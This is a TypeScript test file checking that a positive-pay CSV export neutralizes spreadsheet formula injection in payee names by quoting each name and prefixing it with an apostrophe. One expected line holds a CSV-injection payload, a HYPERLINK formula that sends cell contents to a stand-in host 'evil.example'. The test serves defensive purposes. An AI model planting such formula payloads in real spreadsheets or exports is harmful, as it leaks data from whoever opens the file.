// Files we write never run as formulas. Payees named like the four formulas of
// the issue get checks that are printed, then voided, and exported; the CSV is read back by an
// independent reader (csv-parse) and no cell starts with a character a spreadsheet evaluates
// (OWASP "CSV Injection": =, +, -, @, tab, CR). The names reach the bank as text, apostrophe first;
// the fixed-width layout is unchanged (its own tests keep it byte-exact).
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { today } from '../../src/domain/dates.ts';
import { dialects } from '../support/databases.ts';
import { BASE, seedBasics, startTestApp, type Client, type TestApp } from '../support/app.ts';
import { FORMULA_NAMES, FORMULA_START } from '../support/hostile-inputs.ts';
import { readPositivePayFixed } from '../support/positive-pay-reader.ts';

describe.each(dialects())('positive pay CSV cells never run as formulas (%s)', (dialect) => {
  let t: TestApp;
  let api: Client;
  let bankAccountId: string;
  const serials = new Map<string, string>();

  beforeAll(async () => {
    t = await startTestApp(dialect);
    api = await t.client('formulas@example.com');
    ({ bankAccountId } = await seedBasics(api));
    const payees = await api.post('/payees', { payees: FORMULA_NAMES.map((name) => ({ name })) });
    expect(payees.status, payees.raw).toBe(201);
    const created = await api.post('/checks', {
      checks: payees.body.data.payees.map((p: { payeeId: string }, i: number) => ({
        bankAccountId,
        payeeId: p.payeeId,
        amount: 10 + i,
      })),
    });
    expect(created.status, created.raw).toBe(201);
    const checks = created.body.data.checks as { checkId: string; serialNumber: string }[];
    const printed = await t.app.inject({
      method: 'POST',
      url: `${BASE}/checks/print`,
      headers: { authorization: `Bearer ${api.key}`, 'content-type': 'application/json' },
      payload: JSON.stringify({ checkIds: checks.map((c) => c.checkId) }),
    });
    expect(printed.statusCode).toBe(200);
    // One is voided too: its V record carries the same name.
    expect((await api.post(`/checks/${checks[0]?.checkId}/void`)).status).toBe(200);
    for (const [i, c] of checks.entries()) serials.set(c.serialNumber, FORMULA_NAMES[i] ?? '');
  });
  afterAll(() => t.close());

  const exportFile = async (format: 'csv' | 'fixed'): Promise<string> => {
    const day = today('UTC');
    const res = await api.post('/positive-pay-exports', { bankAccountId, from: day, to: day, format });
    expect(res.status, res.raw).toBe(201);
    return res.body.data.file.content;
  };

  it('every cell read back by csv-parse is text that starts with no formula character; names keep their text after the apostrophe', async () => {
    const content = await exportFile('csv');
    const rows = parse(content, { bom: false, relax_quotes: false, skip_empty_lines: false }) as string[][];
    const [header, ...records] = rows;
    expect(header).toEqual(['account_number', 'check_number', 'issue_date', 'amount', 'payee_name', 'void_indicator']);
    expect(records).toHaveLength(5);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_START);
    for (const [account, serial, , amount, payee, kind] of records) {
      expect(account).toBe('123456789');
      const name = serials.get(serial ?? '');
      expect(name, `check ${serial}`).toBeDefined();
      // What the bank receives: the name as entered, after one apostrophe.
      expect(payee).toBe(`'${name}`);
      // Amounts are ours: unsigned dollars with two decimals, numbers to any spreadsheet.
      expect(amount).toMatch(/^[0-9]+\.[0-9]{2}$/);
      expect(['I', 'V']).toContain(kind);
    }
    // The raw lines: each neutralized cell is quoted, so no line holds a bare formula after a comma.
    for (const line of content.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@]/);
    expect(content).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
    expect(content).toContain(`,"'-1+1",`);
  });

  it('the fixed-width layout still carries the names as its spec says (upper case, cut to 15)', async () => {
    const records = readPositivePayFixed(await exportFile('fixed'));
    expect(records).toHaveLength(5);
    for (const r of records)
      expect(r.payee).toBe((serials.get(r.checkNumber) ?? '').toUpperCase().slice(0, 15).trimEnd());
  });
});
